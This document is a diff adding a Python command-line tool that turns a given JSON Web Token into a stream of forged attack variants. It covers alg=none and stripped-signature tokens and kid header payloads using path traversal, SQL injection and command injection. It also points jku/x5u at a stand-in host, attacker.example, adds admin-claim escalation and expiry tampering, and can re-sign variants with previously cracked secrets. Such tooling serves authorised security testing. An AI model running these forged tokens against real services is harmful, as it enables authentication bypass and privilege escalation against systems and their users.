@@ -0,0 +1,243 @@
+#!/usr/bin/env python3
+import argparse
+import hashlib
+import itertools
+import json
+import sys
+import time
+from typing import Any, Dict, Iterable, Iterator, List, Optional, Tuple
+from jwt_decoder import JWTDecoder, get_algorithms
+from jwt_encoder import JWTEncoder, b64url_encode
+
+Variant = Tuple[str, str]
+
+# How a variant is signed: ('none',), ('keep',), ('key',) or ('hs', secret)
+Signing = Tuple[Any, ...]
+
+CATEGORIES = ("none", "signature", "kid", "jku", "claims", "time")
+
+DEFAULT_ATTACKER_URL = "http://attacker.example/jwks.json"
+
+# kid payloads paired with the HMAC secret the server would end up using
+KID_INJECTIONS = [
+    ("path traversal to /dev/null", "../../../../../../../../dev/null", ""),
+    ("path traversal to /proc/sys/kernel/randomize_va_space",
+     "../../../../../../../../proc/sys/kernel/randomize_va_space", "2"),
+    ("SQL injection returning a known key", "x' UNION SELECT 'key' -- ", "key"),
+    ("SQL injection with empty result", "' OR '1'='1", ""),
+    ("command injection", "key|sleep 5", "key"),
+    ("empty kid", "", ""),
+]
+
+ESCALATIONS = [
+    ("admin", True),
+    ("is_admin", True),
+    ("isAdmin", True),
+    ("role", "admin"),
+    ("roles", ["admin"]),
+    ("groups", ["admin"]),
+    ("scope", "admin"),
+    ("sub", "admin"),
+    ("user", "admin"),
+    ("username", "admin"),
+]
+
+
+def _case_permutations(word: str) -> Iterator[str]:
+    for chars in itertools.product(*((c.lower(), c.upper()) for c in word)):
+        yield ''.join(chars)
+
+
+def _encode_segment(data: Dict[str, Any]) -> str:
+    return b64url_encode(json.dumps(data, separators=(",", ":")).encode()).decode('ascii')
+
+
+class VariantGenerator:
+    def __init__(self, header: Dict[str, Any], payload: Dict[str, Any], signature_segment: str = "",
+                 key: Any = None, algorithm: Optional[str] = None,
+                 attacker_url: str = DEFAULT_ATTACKER_URL):
+        """
+        Lazily derive attack variants of a token
+        """
+        self.header = header
+        self.payload = payload
+        self.signature_segment = signature_segment
+        self.key = key
+        self.algorithm = algorithm or header.get('alg', 'none')
+        self.attacker_url = attacker_url
+
+    @classmethod
+    def from_token(cls, token: str, key: Any = None, algorithm: Optional[str] = None,
+                   attacker_url: str = DEFAULT_ATTACKER_URL) -> "VariantGenerator":
+        parsed = JWTDecoder.parse_token(token)
+        return cls(parsed.header, parsed.payload, parsed.signature_segment.decode('ascii'),
+                   key, algorithm, attacker_url)
+
+    def header_mutations(self, categories: Iterable[str] = CATEGORIES) -> Iterator[Tuple[str, Dict[str, Any], Signing]]:
+        """
+        Yield (description, header, signing) for each header-level attack
+        """
+        categories = set(categories)
+
+        if "none" in categories:
+            for alg in _case_permutations("none"):
+                yield f"alg={alg}, empty signature", {**self.header, "alg": alg}, ('none',)
+
+        if "kid" in categories:
+            for description, kid, secret in KID_INJECTIONS:
+                yield (f"kid {description}, HS256 with secret '{secret}'",
+                       {**self.header, "alg": "HS256", "kid": kid}, ('hs', secret))
+
+        if "jku" in categories:
+            signing = ('key',) if self.key is not None else ('keep',)
+            for field in ("jku", "x5u"):
+                yield f"{field} -> {self.attacker_url}", {**self.header, field: self.attacker_url}, signing
+            algorithms = get_algorithms()
+            if self.key is not None and self.algorithm in algorithms and not self.algorithm.startswith('HS'):
+                from key_cache import key_registry
+                # Servers trusting an embedded jwk will verify against the signer's own public key
+                public_key = key_registry.resolve(self.key).public_key()
+                jwk = json.loads(algorithms[self.algorithm].to_jwk(public_key))
+                yield "embedded jwk with signing public key", {**self.header, "jwk": jwk}, ('key',)
+
+    def payload_mutations(self, categories: Iterable[str] = CATEGORIES) -> Iterator[Tuple[str, Dict[str, Any]]]:
+        """
+        Yield (description, payload) for each claim-level attack
+        """
+        categories = set(categories)
+
+        if "claims" in categories:
+            for claim, value in ESCALATIONS:
+                if self.payload.get(claim) != value:
+                    yield f"{claim}={json.dumps(value)}", {**self.payload, claim: value}
+            escalated = dict(self.payload)
+            escalated.update(ESCALATIONS)
+            yield "all privilege claims escalated", escalated
+
+        if "time" in categories:
+            now = int(time.time())
+            far_future = now + 10 * 365 * 24 * 3600
+            yield "exp +10 years", {**self.payload, "exp": far_future}
+            yield "exp removed", {k: v for k, v in self.payload.items() if k != "exp"}
+            yield "exp as string", {**self.payload, "exp": str(far_future)}
+            yield "nbf=0", {**self.payload, "nbf": 0}
+            yield "nbf removed", {k: v for k, v in self.payload.items() if k != "nbf"}
+            yield "iat in the future", {**self.payload, "iat": far_future}
+
+    def generate(self, categories: Iterable[str] = CATEGORIES, combine: bool = False,
+                 dedupe: bool = True, offset: int = 0, limit: Optional[int] = None) -> Iterator[Variant]:
+        """
+        Stream (description, token) pairs; offset/limit select a shard of the stream
+        """
+        categories = tuple(categories)
+        variants = self._variants(categories, combine)
+        if dedupe:
+            variants = self._dedupe(variants)
+        stop = offset + limit if limit is not None else None
+        return itertools.islice(variants, offset, stop)
+
+    def _variants(self, categories: Tuple[str, ...], combine: bool) -> Iterator[Variant]:
+        if "signature" in categories:
+            unsigned = f"{_encode_segment(self.header)}.{_encode_segment(self.payload)}"
+            yield "signature stripped", unsigned + "."
+            yield "signature segment removed", unsigned
+            yield "alg=none via encoder", JWTEncoder.create_token_none_alg(dict(self.header), self.payload)
+
+        for description, header, signing in self.header_mutations(categories):
+            yield description, self._build(header, self.payload, signing)
+
+        payload_signing: List[Tuple[str, Signing]] = [("re-signed", ('key',))] if self.key is not None else []
+        payload_signing += [("original signature", ('keep',)), ("alg=none", ('none',))]
+        for description, payload in self.payload_mutations(categories):
+            for signing_description, signing in payload_signing:
+                header = {**self.header, "alg": "none"} if signing == ('none',) else self.header
+                yield f"{description}, {signing_description}", self._build(header, payload, signing)
+
+        if combine:
+            # Header mutations are re-derived per payload so nothing is materialized
+            for payload_description, payload in self.payload_mutations(categories):
+                for header_description, header, signing in self.header_mutations(categories):
+                    yield (f"{header_description} + {payload_description}",
+                           self._build(header, payload, signing))
+
+    def _build(self, header: Dict[str, Any], payload: Dict[str, Any], signing: Signing) -> str:
+        mode = signing[0]
+        if mode == 'hs':
+            return JWTEncoder.create_token_hs(dict(header), payload, signing[1], header.get('alg', 'HS256'))
+        if mode == 'key':
+            return JWTEncoder.update_token(None, dict(header), payload, self.key, self.algorithm)
+        if mode == 'none' and header.get('alg') == 'none':
+            return JWTEncoder.create_token_none_alg(dict(header), payload)
+
+        unsigned = f"{_encode_segment(header)}.{_encode_segment(payload)}"
+        if mode == 'keep':
+            return f"{unsigned}.{self.signature_segment}"
+        return unsigned + "."
+
+    @staticmethod
+    def _dedupe(variants: Iterator[Variant]) -> Iterator[Variant]:
+        # 8-byte digests keep the seen-set small for very long streams
+        seen = set()
+        for description, token in variants:
+            digest = hashlib.blake2b(token.encode('ascii'), digest_size=8).digest()
+            if digest in seen:
+                continue
+            seen.add(digest)
+            yield description, token
+
+
+def main(argv: Optional[List[str]] = None) -> int:
+    parser = argparse.ArgumentParser(description="Generate attack variants of a JWT as a lazy stream")
+    parser.add_argument("token", help="JWT to derive variants from")
+    parser.add_argument("-s", "--secret", help="Secret to re-sign HS variants with")
+    parser.add_argument("-k", "--private-key", help="Private key file to re-sign asymmetric variants with")
+    parser.add_argument("-c", "--categories", default=",".join(CATEGORIES),
+                        help=f"Comma-separated subset of: {', '.join(CATEGORIES)}")
+    parser.add_argument("--attacker-url", default=DEFAULT_ATTACKER_URL, help="URL injected into jku/x5u")
+    parser.add_argument("--combine", action="store_true", help="Also emit header x payload combinations")
+    parser.add_argument("--no-dedupe", action="store_true", help="Emit duplicate tokens")
+    parser.add_argument("--offset", type=int, default=0, help="Skip this many variants")
+    parser.add_argument("--limit", type=int, default=None, help="Emit at most this many variants")
+    parser.add_argument("--tokens-only", action="store_true", help="Print bare tokens instead of NDJSON")
+    parser.add_argument("--no-store", action="store_true",
+                        help="Neither consult nor update the results store ($JWT_RESULTS_DB)")
+    args = parser.parse_args(argv)
+
+    categories = [c.strip() for c in args.categories.split(',') if c.strip()]
+    unknown = set(categories) - set(CATEGORIES)
+    if unknown:
+        parser.error(f"unknown categories: {', '.join(sorted(unknown))}")
+
+    key: Any = args.secret
+    if args.private_key:
+        with open(args.private_key, 'rb') as f:
+            key = f.read()
+
+    store = None
+    if not args.no_store:
+        from results_store import open_store
+        store = open_store()
+
+    try:
+        if key is None and store is not None:
+            # HS variants are re-signed with a secret cracked in an earlier run
+            key = store.known_secret(args.token)
+        generator = VariantGenerator.from_token(args.token, key, attacker_url=args.attacker_url)
+        variants = generator.generate(categories, args.combine, not args.no_dedupe, args.offset, args.limit)
+        if store is not None:
+            variants = store.record_variants(args.token, variants)
+        for description, token in variants:
+            if args.tokens_only:
+                print(token)
+            else:
+                print(json.dumps({"description": description, "token": token}))
+    except ValueError as e:
+        print(f"Error: {e}", file=sys.stderr)
+        return 2
+    except BrokenPipeError:
+        pass
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())